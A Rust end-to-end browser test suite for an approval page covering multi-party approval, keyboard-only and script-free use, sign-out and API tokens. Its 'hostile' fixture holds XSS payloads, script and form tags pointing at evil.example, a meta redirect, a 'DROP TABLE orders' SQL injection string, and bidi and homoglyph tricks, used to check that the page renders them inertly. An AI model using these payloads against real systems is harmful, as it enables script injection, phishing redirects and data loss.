//! The page, as people use it: the decide function as it is packaged, panva's oidc-provider as their
//! issuer, and Debian's Chromium in front.
//!
//! Screenshots are kept below `POSTERN_ARTEFACTS`, or `target/artefacts`; whoever changes the page looks
//! at them.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that cannot go on is to fail"
)]

mod parked;
mod stage;

use std::sync::LazyLock;

use parked::Wish;
use stage::Stage;

#[test]
fn two_people_of_one_group_and_one_of_another_approve_together() {
    let mut stage = Stage::start();
    stage.park("export", &Wish::default());
    stage.play("people");
}

#[test]
fn one_refusal_ends_it() {
    let mut stage = Stage::start();
    stage.park("refused", &Wish::default());
    stage.play("refusal");
}

#[test]
fn everything_is_done_without_a_mouse() {
    let mut stage = Stage::start();
    stage.park("first", &Wish { ends_s: 300, ..Wish::default() });
    stage.park("keyboard", &Wish { ends_s: 600, ..Wish::default() });
    stage.play("keyboard");
}

#[test]
fn everything_is_done_without_a_script() {
    let mut stage = Stage::start();
    stage.park("plain", &Wish::default());
    stage.play("plain");
}

#[test]
fn every_screen_bears_it_and_axe_finds_nothing_serious() {
    let mut stage = Stage::start();
    stage.park("shown", &Wish::default());
    stage.park("hostile", &hostile());
    stage.play("screens");
}

#[test]
fn hostile_text_is_looked_at_and_does_nothing() {
    let mut stage = Stage::start();
    stage.park("hostile", &hostile());
    stage.play("hostile");
}

#[test]
fn nobody_decides_for_themselves_or_with_a_login_that_policy_does_not_take() {
    let mut stage = Stage::start();
    stage.park("own", &Wish { root: "dba-1", ..Wish::default() });
    stage.park("strong", &Wish { acr: &["phr"], ..Wish::default() });
    stage.play("conditions");
}

#[test]
fn what_a_browser_carries_by_itself_decides_nothing() {
    let mut stage = Stage::start();
    stage.park("doors", &Wish::default());
    stage.play("doors");
}

#[test]
fn whoever_was_signed_out_is_told_so_and_loses_nothing_that_they_wrote() {
    let mut stage = Stage::start();
    stage.park("ended", &Wish::default());
    stage.play("ended");
}

#[test]
fn nobody_is_on_record_as_shown_what_they_did_not_see() {
    let mut stage = Stage::start();
    stage.park("anew", &Wish { acr: &["phr"], ..Wish::default() });
    stage.play("anew");
    assert_eq!(stage.shown("anew"), 0);
}

#[test]
fn programs_of_people_decide_with_tokens_of_their_own() {
    let mut stage = Stage::start();
    stage.park("api", &Wish::default());
    stage.play("api");
}

/// What somebody writes who wants to be misread.
fn hostile() -> Wish<'static> {
    Wish {
        statement: &HOSTILE,
        params: &[
            "\"\\\"><img src=x onerror=alert(1)>\"",
            "\"\u{202e}drow\u{2066} a\u{200b}b\"",
            "\"à̸̡̢̨̛̫̺̹̖̘̗̟̠̣̤̥̦̩̪̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌\"",
        ],
        reason: "<script>alert(document.domain)</script> Please approve\u{202e} !won \
                 <form action=https://evil.example><button>Approve</button></form>\
                 <meta http-equiv=refresh content=0;url=https://evil.example>\
                 <link rel=stylesheet href=https://evil.example/a.css>",
        label: "c\u{43e}mpliance</b><style>*{display:none}</style>\u{feff}",
        root: "\u{430}dmin\"><script src=https://evil.example></script>",
        ..Wish::default()
    }
}

static HOSTILE: LazyLock<String> = LazyLock::new(|| {
    let long = "x".repeat(60_000);
    format!(
        "SELECT * FROM cust\u{43e}mers -- \u{202e}tnirp\u{2069}\n\
         WHERE name = '</span></code></pre><script>alert(1)</script><img src=https://evil.example/x.png>'\n  \
         AND note = E'\\'; DROP TABLE orders; --'\n  \
         AND a\u{200b}b = $1 /* <!-- */ AND '\u{1b}[2J' = '\r'\n  \
         AND x = '{long}'\n\n──── Parameter $4 ────\n1\r──── Parameter $5 ────\r1"
    )
});
